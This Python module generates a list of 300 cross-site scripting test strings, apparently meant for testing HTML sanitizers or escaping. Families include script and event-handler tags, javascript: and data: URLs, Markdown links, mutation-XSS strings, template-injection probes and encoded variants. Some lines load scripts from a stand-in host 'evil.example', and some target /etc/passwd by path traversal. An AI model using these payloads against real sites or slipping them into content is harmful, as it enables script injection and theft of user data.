"""Three hundred texts that try to become script in a page, by family."""

from collections.abc import Iterator, Sequence
from itertools import product

CODE = "alert(1)"
NUMBER = 300

_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</noscript>", "</p></code>")
"""What might end the place that a text stands in."""

_ELEMENTS = (
    f"<script>{CODE}</script>",
    f"<ScRiPt>{CODE}</sCrIpT>",
    f"<script\n>{CODE}</script\t>",
    f"<script/x>{CODE}</script>",
    f"<scr\0ipt>{CODE}</scr\0ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{CODE}</script>",
    f"<img src=x onerror={CODE}>",
    f"<IMG SRC=x OnErRoR={CODE}//",
    f"<img/src=`x`/onerror={CODE}>",
    f"<svg onload={CODE}>",
    f"<svg/onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CODE}><text>x</text></a></svg>",
    f"<math><a href=javascript:{CODE}>x</a></math>",
    f"<body onload={CODE}>",
    f"<details open ontoggle={CODE}>x</details>",
    f"<input autofocus onfocus={CODE}>",
    f"<video src=x onerror={CODE}></video>",
    f"<audio><source onerror={CODE}></audio>",
    f"<marquee onstart={CODE}>x</marquee>",
    f"<iframe srcdoc='<script>{CODE}</script>'></iframe>",
    f"<iframe src=javascript:{CODE}></iframe>",
    f"<object data=javascript:{CODE}></object>",
    f"<embed src=javascript:{CODE}>",
    f"<form action=javascript:{CODE}><button>x</button></form>",
    f"<button formaction=javascript:{CODE}>x</button>",
    f"<a href=javascript:{CODE}>x</a>",
    f"<base href=javascript:{CODE}//>",
    f'<meta http-equiv=refresh content="0;url=javascript:{CODE}">',
    f"<link rel=stylesheet href=data:text/css,x onload={CODE}>",
    f"<style onload={CODE}></style>",
    "<style>@import '//evil.example/x.css';</style>",
    f'<noscript><p title="</noscript><img src=x onerror={CODE}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={CODE}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CODE}&gt;'>",
    f"<template><img src=x onerror={CODE}></template>",
    f"<p style=animation-name:x onanimationstart={CODE}>x</p>",
    f"<xss contenteditable onbeforeinput={CODE}>x</xss>",
)

_BREAKING_OUT = (
    f'" onmouseover="{CODE}',
    f"' onmouseover='{CODE}",
    f'" autofocus onfocus={CODE} x="',
    f"' autofocus onfocus={CODE} x='",
    f"`onload={CODE}",
    f'x" style="x:expression({CODE})" y="',
    f'"}}</script><script>{CODE}</script>',
    f'"}}];{CODE}//',
    f"');{CODE}//",
    f"\u2028{CODE}\u2029",
    f"\\u003cscript\\u003e{CODE}\\u003c/script\\u003e",
    f"\\');{CODE}//",
)

_ADDRESSES = (
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java\tscript:{CODE}",
    f"java\nscript:{CODE}",
    f" javascript:{CODE}",
    f"\x01javascript:{CODE}",
    f"javascript:%61lert(1)//{CODE}",
    f"javascript&colon;{CODE}",
    f"&#106;avascript:{CODE}",
    f"&#x6A&#x61&#x76&#x61script:{CODE}",
    f"javascript://example.org/%0a{CODE}",
    f"vbscript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CODE}>",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "//evil.example/x.js",
    "\\\\evil.example\\x",
    f'https://example.org/"onclick="{CODE}',
    f"https://example.org/'><svg onload={CODE}>",
    "https://javascript:alert(1)@evil.example",
    f"mailto:a@example.org?body=<script>{CODE}</script>",
    f"feed:javascript:{CODE}",
)

_MARKDOWN = ("[x]({0})", "![x]({0})", "<{0}>", "[x]: {0}", "**[x]({0})**", "`[x]({0})`", '[x]({0} "title")')
_TEMPLATES = (
    "{{7*7}}",
    "{{ self._TemplateReference__context }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "<%= 1 %>",
)
_ENCODED = (
    f"&lt;script&gt;{CODE}&lt;/script&gt;",
    f"&#60;script&#62;{CODE}&#60;/script&#62;",
    f"%3Cscript%3E{CODE}%3C/script%3E",
    f"+ADw-script+AD4-{CODE}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{CODE}\uff1c/script\uff1e",
    f"\u202e<script>{CODE}</script>",
    f"\x00<script>{CODE}</script>",
    "../../../etc/passwd",
    "CON",
    "a" * 400 + "<script>",
)  # fmt: skip


def payloads() -> Sequence[str]:
    """The texts, each once, from every family."""
    few = [*_BREAKING_OUT, *_ADDRESSES, *_TEMPLATES, *_ENCODED, *_links()]
    many = [out + element for out, element in product(_OUT, _ELEMENTS)]
    wanted = NUMBER - len(few)
    step = len(many) / wanted
    return [*few, *(many[int(place * step)] for place in range(wanted))]


def _links() -> Iterator[str]:
    for place, form in enumerate(_MARKDOWN):
        for address in _ADDRESSES[place % 3 :: 3]:
            yield form.format(address)
